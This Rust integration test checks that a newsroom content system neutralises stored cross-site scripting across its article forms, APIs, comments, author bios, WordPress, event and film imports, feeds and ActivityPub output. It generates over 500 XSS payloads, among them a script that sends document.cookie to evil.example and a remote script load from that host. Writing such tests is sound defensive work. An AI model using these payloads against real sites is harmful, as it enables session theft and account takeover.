//! Stored cross-site scripting, tried through every way text gets in: the newsroom's article
//! form (headline, deck, body, tags), author names and biographies, readers' names and
//! comments, the Admin API, a WordPress import, an events feed and a film database. Every page, feed, API answer
//! and ActivityPub document that shows that text afterwards, and every form that sent it back
//! with an error, is parsed the way a browser parses it (html5ever) and must hold nothing that
//! runs beyond the site's own. Runs on both databases.
//!
//! The corpus is made here, not copied: each way in ([`VECTORS`]) is tried with each piece of
//! code ([`SCRIPTS`]) and in two settings (alone and inside a sentence): over 500 payloads.

mod common;

use common::{csrf_in, get_with, new_client, TestSite};
use marquee_domain::testing::{elements, unsafe_html, url_scheme};
use serde_json::{json, Value};

/// The code each payload tries to run.
const SCRIPTS: &[&str] = &["alert(1)", "alert(document.domain)", "fetch('//evil.example/?c='+document.cookie)", "top['al'+'ert'](2)", "eval(atob('YWxlcnQoMyk='))"];

/// Ways in; `JS` is where the code goes.
const VECTORS: &[&str] = &[
    "<script>JS</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>JS",
    "<scr<script>ipt>JS</scr</script>ipt>",
    "<img src=x onerror=JS>",
    "<img src=\"x\" onerror=\"JS\">",
    "<img/src=x/onerror=JS>",
    "<image src=x onerror=JS>",
    "<svg onload=JS>",
    "<svg><script>JS</script></svg>",
    "<svg><a xlink:href=\"javascript:JS\"><text y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=JS>",
    "<a href=\"javascript:JS\">link</a>",
    "<a href=\"JaVaScRiPt:JS\">link</a>",
    "<a href=\"java\tscript:JS\">link</a>",
    "<a href=\"&#106;avascript:JS\">link</a>",
    "<a href=\"&#x6A;&#x61;vascript:JS\">link</a>",
    "<a href=\" \u{1}javascript:JS\">link</a>",
    "<a href=\"vbscript:JS\">link</a>",
    "<a href=\"data:text/html,<script>JS</script>\">link</a>",
    "<iframe src=\"javascript:JS\"></iframe>",
    "<iframe srcdoc=\"<script>JS</script>\"></iframe>",
    "<object data=\"javascript:JS\"></object>",
    "<embed src=\"javascript:JS\">",
    "<body onload=JS>",
    "<details open ontoggle=JS>",
    "<input autofocus onfocus=JS>",
    "<video><source onerror=JS></video>",
    "<audio src=x onerror=JS>",
    "<marquee onstart=JS>",
    "<div onmouseover=\"JS\">hover</div>",
    "<p style=\"background:url('javascript:JS')\">x</p>",
    "<style>@import 'javascript:JS';</style>",
    "<form action=\"javascript:JS\"><button>go</button></form>",
    "<button formaction=\"javascript:JS\">go</button>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:JS\">",
    "<base href=\"javascript:JS//\">",
    "<link rel=stylesheet href=\"javascript:JS\">",
    "<table background=\"javascript:JS\"><tr><td>x</td></tr></table>",
    "<noscript><p title=\"</noscript><img src=x onerror=JS>\">",
    "<template><script>JS</script></template>",
    "<!--<img src=\"--><img src=x onerror=JS//\">",
    "<![CDATA[<script>JS</script>]]>",
    "\"><script>JS</script>",
    "'><img src=x onerror=JS>",
    "\" onmouseover=\"JS\" x=\"",
    "' onfocus='JS' autofocus='",
    "</title><script>JS</script>",
    "</textarea><script>JS</script>",
    "</script><script>JS</script>",
    "</style><script>JS</script>",
    "--><script>JS</script>",
    "]]><script>JS</script>",
    "\u{2028}</script><img src=x onerror=JS>",
    "[link](javascript:JS)",
    "[link](JAVASCRIPT:JS \"title\")",
    "![img](javascript:JS)",
    "![img](x\" onerror=\"JS)",
    "<javascript:JS>",
    "[ref]\n\n[ref]: javascript:JS",
    "[link](data:text/html,<script>JS</script>)",
    "`</code><script>JS</script>`",
    "```\n</code></pre><script>JS</script>\n```",
    "{{ '<script>JS</script>' }}",
    "{% raw %}<script>JS</script>{% endraw %}",
];

fn corpus() -> Vec<String> {
    let mut out = Vec::new();
    for v in VECTORS {
        for js in SCRIPTS {
            let alone = v.replace("JS", js);
            out.push(format!("Before {alone} after"));
            out.push(alone);
        }
    }
    out.sort();
    out.dedup();
    out
}

/// What in a whole page could run code beyond the site's own: the site's JSON-LD and its own
/// scripts under `/static/` are allowed; any other script, frame, plugin, base or refresh, any
/// event handler, and any URL with a scheme other than http, https or mailto is not.
fn unsafe_page(html: &str) -> Vec<String> {
    let mut problems = Vec::new();
    for el in elements(html) {
        let attr = |name: &str| el.attrs.iter().find(|(k, _)| k == name).map(|(_, v)| v.as_str());
        match el.name.as_str() {
            "script" => {
                let own = match (attr("src"), attr("type")) {
                    (None, Some("application/ld+json")) => true,
                    (Some(src), None) => src.starts_with("/static/"),
                    _ => false,
                };
                if !own {
                    problems.push(format!("a <script> not the site's own: {:?}", el.attrs));
                }
            }
            "iframe" | "frame" | "frameset" | "object" | "embed" | "applet" | "base" | "portal" | "fencedframe" | "template" => problems.push(format!("a <{}> element", el.name)),
            "meta" if attr("http-equiv").is_some() => problems.push(format!("<meta http-equiv> {:?}", el.attrs)),
            _ => {}
        }
        if !el.html {
            problems.push(format!("<{}> outside HTML (SVG or MathML)", el.name));
        }
        for (key, value) in &el.attrs {
            if key.starts_with("on") || key == "srcdoc" || key == "formaction" {
                problems.push(format!("{key}=\"{value}\" on <{}>", el.name));
            }
            if matches!(key.as_str(), "href" | "src" | "action" | "data" | "background" | "poster" | "xlink:href" | "cite") {
                if let Some(scheme) = url_scheme(value).filter(|s| !matches!(s.as_str(), "http" | "https" | "mailto")) {
                    problems.push(format!("a {scheme}: URL in {key} on <{}>", el.name));
                }
            }
            if key == "style" && (value.to_ascii_lowercase().contains("url(") || value.to_ascii_lowercase().contains("expression")) {
                problems.push(format!("style=\"{value}\" on <{}>", el.name));
            }
        }
    }
    problems
}

/// The checks' running tally: what was looked at, and what was found.
#[derive(Default)]
struct Findings {
    pages: usize,
    fragments: usize,
    problems: Vec<String>,
}

impl Findings {
    fn page(&mut self, what: &str, html: &str) {
        self.pages += 1;
        for p in unsafe_page(html) {
            self.problems.push(format!("{what}: {p}"));
        }
    }

    /// HTML meant to be put inside someone else's page (an API's `html`, a feed's content):
    /// nothing beyond safe markup at all.
    fn fragment(&mut self, what: &str, html: &str) {
        self.fragments += 1;
        for p in unsafe_html(html) {
            self.problems.push(format!("{what}: {p}"));
        }
    }

    async fn get(&mut self, client: &reqwest::Client, site: &TestSite, path: &str) -> String {
        let (status, html) = get_with(client, &site.url(path)).await;
        assert_eq!(status, 200, "{path}");
        self.page(path, &html);
        html
    }

    fn assert_clean(&self) {
        assert!(self.problems.is_empty(), "{} problems, first ones:\n{}", self.problems.len(), self.problems.iter().take(30).cloned().collect::<Vec<_>>().join("\n"));
    }
}

/// Every field named in `html_fields` of a JSON document, at any depth, checked as an HTML
/// fragment (the fields each format defines as HTML; the others are plain text there).
fn json_fragments(found: &mut Findings, what: &str, v: &Value, html_fields: &[&str]) {
    match v {
        Value::Object(map) => {
            for (k, v) in map {
                match v {
                    Value::String(s) if html_fields.contains(&k.as_str()) => found.fragment(&format!("{what} {k}"), s),
                    _ => json_fragments(found, what, v, html_fields),
                }
            }
        }
        Value::Array(list) => list.iter().for_each(|v| json_fragments(found, what, v, html_fields)),
        _ => {}
    }
}

/// The HTML a feed carries: RSS's description and content:encoded, and Atom's content and
/// summary when their type is html (Atom's default type is plain text).
fn xml_fragments(found: &mut Findings, what: &str, xml: &str) {
    let doc = roxmltree::Document::parse(xml).unwrap_or_else(|e| panic!("{what} is not XML: {e}"));
    for node in doc.descendants().filter(|n| n.is_element()) {
        let html = match node.tag_name().name() {
            "description" | "encoded" => true,
            "content" | "summary" => matches!(node.attribute("type"), Some("html" | "xhtml")),
            _ => false,
        };
        if html {
            found.fragment(&format!("{what} <{}>", node.tag_name().name()), node.text().unwrap_or_default());
        }
    }
}

fn xml_escape(s: &str) -> String {
    s.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;")
}

fn csv_field(s: &str) -> String {
    format!("\"{}\"", s.replace('"', "\"\""))
}

/// A WordPress export with one post per payload: in its title, excerpt, content, category, tag
/// and a comment with the payload as its author's name and text.
fn wxr(payloads: &[String]) -> String {
    let mut items = String::new();
    for (i, p) in payloads.iter().enumerate() {
        let p = xml_escape(p);
        items.push_str(&format!(
            "<item><title>{p}</title><link>https://old.example/?p={id}</link><dc:creator>wren</dc:creator><content:encoded>{p}</content:encoded><excerpt:encoded>{p}</excerpt:encoded>\
             <wp:post_id>{id}</wp:post_id><wp:post_date>2024-05-0{d} 10:00:00</wp:post_date><wp:post_date_gmt>2024-05-0{d} 17:00:00</wp:post_date_gmt><wp:post_name>wp-xss-{i}</wp:post_name>\
             <wp:status>publish</wp:status><wp:post_type>post</wp:post_type><category domain=\"category\" nicename=\"news\">News</category><category domain=\"post_tag\" nicename=\"t{i}\">{p}</category>\
             <wp:comment><wp:comment_id>{id}</wp:comment_id><wp:comment_author>{p}</wp:comment_author><wp:comment_author_email>r{i}@readers.test</wp:comment_author_email><wp:comment_date_gmt>2024-05-0{d} 18:00:00</wp:comment_date_gmt>\
             <wp:comment_content>{p}</wp:comment_content><wp:comment_approved>1</wp:comment_approved><wp:comment_parent>0</wp:comment_parent></wp:comment></item>",
            id = 1000 + i,
            d = 1 + i % 9,
        ));
    }
    format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?><rss version=\"2.0\" xmlns:excerpt=\"http://wordpress.org/export/1.2/excerpt/\" xmlns:content=\"http://purl.org/rss/1.0/modules/content/\" \
         xmlns:dc=\"http://purl.org/dc/elements/1.1/\" xmlns:wp=\"http://wordpress.org/export/1.2/\"><channel><title>Old paper</title><link>https://old.example</link><wp:wxr_version>1.2</wp:wxr_version>\
         <wp:base_site_url>https://old.example</wp:base_site_url><wp:author><wp:author_login>wren</wp:author_login><wp:author_email>wren@old.example</wp:author_email><wp:author_display_name>Wren Old</wp:author_display_name></wp:author>\
         {items}</channel></rss>"
    )
}

/// Posts `fields` with the page's token as `client`; checks what came back; answers
/// (status, location).
async fn send(found: &mut Findings, client: &reqwest::Client, site: &TestSite, csrf: &str, action: &str, fields: &[(&str, &str)]) -> (u16, String) {
    let mut all = vec![("_csrf", csrf)];
    all.extend_from_slice(fields);
    let r = client.post(site.url(action)).form(&all).send().await.unwrap();
    let status = r.status().as_u16();
    assert!(status < 500, "{action} answered {status}");
    let location = r.headers().get("location").map(|v| v.to_str().unwrap().to_string()).unwrap_or_default();
    let body = r.text().await.unwrap();
    // XSS_DEBUG=1 prints why a payload was refused.
    if status >= 400 && std::env::var("XSS_DEBUG").is_ok() {
        let msgs: Vec<&str> = body.split("class=\"field-error\"").skip(1).map(|s| &s[..s.len().min(160)]).collect();
        eprintln!("{status} {action}: {msgs:?}");
    }
    if !body.is_empty() {
        found.page(&format!("the answer to {action}"), &body);
    }
    (status, location)
}

with_mail!(no_payload_of_the_corpus_comes_back_executable, |cfg| {
    cfg.rate.comments_per_account = 100_000;
    cfg.rate.comments_per_ip = 100_000;
    cfg.rate.registrations_per_ip = 100_000;
    cfg.rate.window_secs = 1;
}, |site, sink| {
    let payloads = corpus();
    assert!(payloads.len() >= 500, "the corpus has {} payloads", payloads.len());
    let started = std::time::Instant::now();
    let mut found = Findings::default();
    let editor = new_client();
    site.login_as(&editor, "editor").await;
    let news = site.section_id("news").await;
    let author = site.author_id("eddie-editor").await;

    // The newsroom's article form: one article per payload, in every text field.
    let csrf = csrf_in(&get_with(&editor, &site.url("/admin/articles/new")).await.1);
    let mut published = Vec::new();
    for (i, p) in payloads.iter().enumerate() {
        let slug = format!("xss-{i}");
        // Tags are up to 60 characters; longer ones are refused (and checked as an answer).
        let tag: String = p.chars().take(if i % 2 == 0 { 60 } else { 200 }).collect();
        let (status, _) = send(&mut found, &editor, &site, &csrf, "/admin/articles/new", &[("headline", p), ("deck", p), ("slug", &slug), ("section", &news), ("author1", &author), ("tags", &tag), ("body", p), ("action", "publish")]).await;
        if status == 303 {
            published.push(slug);
        }
    }
    assert!(published.len() * 10 >= payloads.len() * 7, "most payloads are accepted as articles (else the check proves little): {} of {}", published.len(), payloads.len());
    let reader = new_client();
    for slug in &published {
        found.get(&reader, &site, &format!("/news/{slug}/")).await;
    }
    // Every listing, feed and document that shows them.
    let pages = published.len().div_ceil(20);
    for n in 1..=pages {
        found.get(&reader, &site, &format!("/news/?page={n}")).await;
    }
    for path in ["/", "/authors/eddie-editor/", "/search/?q=script", "/search/?q=alert", "/search/?q=%3Cscript%3E", "/popular/", "/admin/"] {
        let client = if path.starts_with("/admin") { &editor } else { &reader };
        found.get(client, &site, path).await;
    }
    let tags = sqlx::query_scalar::<_, String>("SELECT slug FROM tags ORDER BY id LIMIT 8").fetch_all(site.store.pool()).await.unwrap();
    assert!(!tags.is_empty());
    for t in &tags {
        found.get(&reader, &site, &format!("/tags/{t}/")).await;
    }
    for feed in ["/feed.xml", "/atom.xml", "/news/feed.xml", "/news/atom.xml"] {
        let (status, xml) = get_with(&reader, &site.url(feed)).await;
        assert_eq!(status, 200, "{feed}");
        xml_fragments(&mut found, feed, &xml);
    }
    let (_, json_feed) = get_with(&reader, &site.url("/feed.json")).await;
    json_fragments(&mut found, "/feed.json", &serde_json::from_str(&json_feed).unwrap(), &["content_html"]);
    let outbox: Value = new_client().get(site.url("/actor/outbox")).header("accept", "application/activity+json").send().await.unwrap().json().await.unwrap();
    assert!(outbox["orderedItems"].as_array().is_some_and(|a| !a.is_empty()), "the outbox lists the articles");
    json_fragments(&mut found, "/actor/outbox", &outbox, &["content", "summary"]);
    for item in outbox["orderedItems"].as_array().unwrap().iter().take(20) {
        let id = item["object"]["id"].as_str().unwrap().trim_start_matches(&site.base).to_string();
        let object: Value = new_client().get(site.url(&id)).header("accept", "application/activity+json").send().await.unwrap().json().await.unwrap();
        json_fragments(&mut found, &id, &object, &["content", "summary"]);
    }
    // The editing form shows every field again.
    let first = site.store.article_summaries(None, 5, marquee_store::Seek::FIRST).await.unwrap().0;
    for a in &first {
        found.get(&editor, &site, &format!("/admin/articles/{}", a.id)).await;
    }

    // The Admin API and what the Content API answers.
    let admin_key = common::make_key(&site, "admin", "XSS tool", Some("editor")).await;
    let content_key = common::make_key(&site, "content", "XSS reader", None).await;
    for (i, p) in payloads.iter().enumerate().step_by(3) {
        let post = json!({ "posts": [{ "title": p, "html": p, "custom_excerpt": p, "slug": format!("api-xss-{i}"), "tags": [p.chars().take(60).collect::<String>()], "status": "published" }] });
        let r = new_client().post(site.url("/ghost/api/admin/posts/?source=html")).header("authorization", format!("Bearer {admin_key}")).json(&post).send().await.unwrap();
        assert!(r.status().as_u16() < 500);
        if r.status().as_u16() == 201 {
            let v: Value = r.json().await.unwrap();
            json_fragments(&mut found, "the Admin API's answer", &v, &["html"]);
            let url = v["posts"][0]["url"].as_str().unwrap().to_string();
            found.get(&reader, &site, url.trim_start_matches(&site.base)).await;
        }
    }
    let mut page = 1;
    loop {
        let v: Value = new_client().get(site.url(&format!("/ghost/api/content/posts/?key={content_key}&limit=100&page={page}&include=tags,authors"))).send().await.unwrap().json().await.unwrap();
        json_fragments(&mut found, "the Content API", &v, &["html"]);
        if v["meta"]["pagination"]["next"].is_null() {
            break;
        }
        page += 1;
    }

    // Author names and biographies, shown on the author's page and every byline.
    let csrf = csrf_in(&get_with(&editor, &site.url("/admin/authors")).await.1);
    for p in payloads.iter().step_by(7) {
        send(&mut found, &editor, &site, &csrf, &format!("/admin/authors/{author}"), &[("name", p), ("bio", p)]).await;
        found.get(&reader, &site, "/authors/eddie-editor/").await;
        found.get(&reader, &site, "/news/xss-0/").await;
    }

    // Readers: a name refused is shown back in the form; comments from a verified reader, on
    // the article and in the newsroom's queue.
    let visitor = new_client();
    let csrf = csrf_in(&get_with(&visitor, &site.url("/account/register")).await.1);
    // One token serves every try: each payload holds a character no name may have, so every
    // name is refused and no session (to which a token is bound) begins.
    for (i, p) in payloads.iter().enumerate().step_by(5) {
        let email = format!("visitor{i}@readers.test");
        send(&mut found, &visitor, &site, &csrf, "/account/register", &[("name", p), ("email", &email), ("password", common::PASSWORD), ("website", "")]).await;
    }
    // Comments go up at once (unless they hold a link), so the article pages show them.
    let admin = new_client();
    site.login_as(&admin, "admin").await;
    let settings = [("moderation", "post"), ("first_n", "0"), ("banned_words", ""), ("suspect_words", ""), ("deleted_account", "keep"), ("edit_minutes", "15")];
    let csrf = csrf_in(&get_with(&admin, &site.url("/admin/comments/settings")).await.1);
    assert_eq!(send(&mut found, &admin, &site, &csrf, "/admin/comments/settings", &settings).await.0, 303);
    let commenter = common::verified_reader(&site, &sink, "Ada Lovelace", "ada@readers.test").await;
    let csrf = csrf_in(&get_with(&commenter, &site.url("/account/")).await.1);
    for (i, p) in payloads.iter().enumerate() {
        let article = format!("/news/{}/comments", published[i % published.len().min(10)]);
        send(&mut found, &commenter, &site, &csrf, &article, &[("body", p), ("parent", ""), ("website", "")]).await;
    }
    let comments: i64 = sqlx::query_scalar("SELECT COUNT(*) FROM comments").fetch_one(site.store.pool()).await.unwrap();
    assert!(comments as usize * 10 >= payloads.len() * 9, "most comments are taken: {comments}");
    let shown: i64 = sqlx::query_scalar("SELECT COUNT(*) FROM comments WHERE status = 'approved'").fetch_one(site.store.pool()).await.unwrap();
    assert!(shown > 0, "some comments are on the articles, not all held");
    for slug in published.iter().take(10) {
        found.get(&reader, &site, &format!("/news/{slug}/")).await;
    }
    for view in ["pending", "approved", "reported", "rejected"] {
        found.get(&editor, &site, &format!("/admin/comments/?view={view}")).await;
    }

    // A WordPress import and an events feed.
    let dir = std::env::temp_dir().join(format!("marquee-xss-{}", rand::random::<u32>()));
    std::fs::create_dir_all(&dir).unwrap();
    let file = dir.join("hostile.xml");
    std::fs::write(&file, wxr(&payloads)).unwrap();
    let opts = marquee::import::wordpress::Options::new(&site.media);
    let report = marquee::import::wordpress::import(&site.store, &file, &opts).await.expect("the import runs");
    assert!(report.posts as usize * 10 >= payloads.len() * 9, "{}", report.details());
    site.state.refresh().await.unwrap();
    for (i, _) in payloads.iter().enumerate().step_by(4) {
        let (status, location) = site.location(&format!("/?p={}", 1000 + i)).await;
        assert_eq!(status, 301, "post {i} has a new address");
        found.get(&reader, &site, &location).await;
    }
    let mut csv = String::from("id,title,category,start,description,venue_id,venue_name,time_zone\n");
    for (i, p) in payloads.iter().enumerate() {
        csv.push_str(&format!("e{i},{},music,2031-06-{:02}T20:00,{},v{},{},America/Los_Angeles\n", csv_field(p), 1 + i % 28, csv_field(p), i, csv_field(p)));
    }
    let counts = marquee::import::import_events(&site.store, "xss.csv", &csv).await.expect("the feed is read");
    site.state.refresh().await.unwrap();
    found.get(&reader, &site, "/events/").await;
    let events = sqlx::query_scalar::<_, String>("SELECT slug FROM events ORDER BY id").fetch_all(site.store.pool()).await.unwrap();
    assert!(events.len() * 10 >= payloads.len() * 9, "{counts:?}: {} events", events.len());
    for slug in events.iter().step_by(4) {
        found.get(&reader, &site, &format!("/events/{slug}/")).await;
    }
    std::fs::remove_dir_all(dir).ok();
    // A film database: titles, credits and characters on the film and person pages.
    let films: Vec<Value> = payloads
        .iter()
        .enumerate()
        .map(|(i, p)| json!({ "title": p, "original_title": p, "year": 1950 + i % 70, "genres": [p], "directors": [p], "cast": [{ "name": format!("{p} {i}"), "character": p }] }))
        .collect();
    let report = marquee::import::import_films(&site.store, "xss.json", &Value::Array(films).to_string(), false).await.expect("the films are read");
    let slugs = sqlx::query_scalar::<_, String>("SELECT slug FROM films ORDER BY id").fetch_all(site.store.pool()).await.unwrap();
    assert!(slugs.len() * 10 >= payloads.len() * 9, "{}: {} films", report.summary(), slugs.len());
    for slug in slugs.iter().step_by(4) {
        found.get(&reader, &site, &format!("/films/{slug}/")).await;
    }
    let people = sqlx::query_scalar::<_, String>("SELECT slug FROM people ORDER BY id LIMIT 40").fetch_all(site.store.pool()).await.unwrap();
    assert!(!people.is_empty());
    for slug in &people {
        found.get(&reader, &site, &format!("/people/{slug}/")).await;
    }

    eprintln!("{} payloads; {} pages and {} fragments checked in {:.1} s", payloads.len(), found.pages, found.fragments, started.elapsed().as_secs_f64());
    found.assert_clean();
});
